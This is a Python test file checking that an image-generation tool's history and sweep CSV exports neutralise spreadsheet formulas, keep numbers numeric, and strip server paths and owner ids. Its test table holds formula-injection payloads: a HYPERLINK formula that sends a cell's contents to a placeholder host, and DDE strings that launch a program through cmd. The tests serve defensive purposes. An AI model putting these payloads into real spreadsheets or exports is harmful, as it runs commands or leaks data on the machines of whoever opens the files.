"""Exports that are safe to open (issue 13 §3): no cell a spreadsheet runs as a formula (numbers stay numbers),
UTF-8 with a byte-order mark, no server paths, no owner ids — for the History CSV and the sweep CSV alike."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from core import schema
from core.runs.history import History, export_csv
from core.runs.runs import Run
from core.sweep.contact_sheet import cells_csv

HYPERLINK = '=HYPERLINK("https://example.invalid/?"&A1,"open") café 東京'
# what a prompt is → what its cell must read in the file
CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1 after spaces", "'  =1+1 after spaces"),
    ("＝1+1 (full-width)", "'＝1+1 (full-width)"),
    ("-", "'-"),
    ("-inf", "'-inf"),
    ("--neg", "'--neg"),
    ("-1", "-1"),  # a real number stays a number
    ("-0.5", "-0.5"),
    ("+3", "+3"),
    ("-1e-3", "-1e-3"),
    ("a cat = a cat", "a cat = a cat"),
    ("café 東京 — naïve ☕", "café 東京 — naïve ☕"),
]


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "data"
    monkeypatch.setenv("CLARITY_DATA_DIR", str(folder))
    return folder


def read(path: Path) -> list[dict[str, str]]:
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def history_export(data_dir: Path, runs: list[Run]) -> list[dict[str, str]]:
    store = History.open_default()
    try:
        for run in runs:
            store.save(run)
        return read(export_csv(store.frame(None), data_dir / "exports" / "history.csv"))
    finally:
        store.close()


def completed_run(prompt: str, data_dir: Path, owner: str = "visitor-7f3a") -> Run:
    run = Run(engine="local", arguments={**schema.defaults(), "prompt": prompt, "negative_prompt": prompt},
              owner=owner)
    run.status, run.seed = "completed", 42
    run.input_path = str(data_dir / "inputs" / "abc.png")
    run.output_path = str(data_dir / "outputs" / f"{run.id}.png")
    run.error = f"could not read {data_dir}/outputs/{run.id}.png"
    return run


@pytest.mark.parametrize(("prompt", "cell"), CELLS)
def test_history_csv_cells(data_dir: Path, prompt: str, cell: str) -> None:
    row = history_export(data_dir, [completed_run(prompt, data_dir)])[0]
    assert row["prompt"] == cell and row["negative_prompt"] == cell


@pytest.mark.parametrize(("prompt", "cell"), CELLS)
def test_sweep_csv_cells(data_dir: Path, prompt: str, cell: str) -> None:
    rows = [{"x_index": 0, "y_index": 0, "label": f"prompt={prompt}", "status": "completed", "x_value": prompt,
             "y_value": -0.25, "arguments": {**schema.defaults(), "prompt": prompt}, "seed": 1, "psnr": -3.5,
             "output_path": str(data_dir / "sweeps" / "s1" / "cell.png")}]
    row = read(cells_csv(rows, data_dir / "sweeps" / "s1" / "cells.csv"))[0]
    assert row["prompt"] == cell and row["x_value"] == cell
    assert row["y_value"] == "-0.25" and row["psnr"] == "-3.5"  # numbers stay numbers


def test_history_csv_has_no_server_paths_and_no_owner(data_dir: Path) -> None:
    run = completed_run("a cat", data_dir)
    row = history_export(data_dir, [run])[0]
    assert "owner" not in row and "visitor-7f3a" not in str(row)
    assert row["input_path"] == "inputs/abc.png" and row["output_path"] == f"outputs/{run.id}.png"
    assert str(data_dir) not in str(row) and row["error"] == f"could not read outputs/{run.id}.png"


def test_sweep_csv_has_no_server_paths(data_dir: Path) -> None:
    rows = [{"x_index": 0, "y_index": 0, "label": "creativity=0.2", "status": "completed", "x_value": 0.2,
             "y_value": None, "arguments": schema.defaults(), "output_path": str(data_dir / "outputs" / "r1.png"),
             "error": f"{data_dir}/outputs/r2.png is missing"}]
    path = cells_csv(rows, data_dir / "sweeps" / "s1" / "cells.csv")
    row = read(path)[0]
    assert row["output_path"] == "outputs/r1.png" and row["error"] == "outputs/r2.png is missing"
    assert str(data_dir) not in path.read_text(encoding="utf-8-sig")


def test_non_ascii_prompts_round_trip_through_pandas(data_dir: Path) -> None:
    import pandas as pd

    prompts = ["café 東京", "Ελληνικά ✓", "emoji 👩‍🚀 e\u0301", "עברית"]
    runs = [completed_run(p, data_dir) for p in prompts]
    history_export(data_dir, runs)
    frame = pd.read_csv(data_dir / "exports" / "history.csv", encoding="utf-8-sig")
    assert sorted(frame["prompt"]) == sorted(prompts)
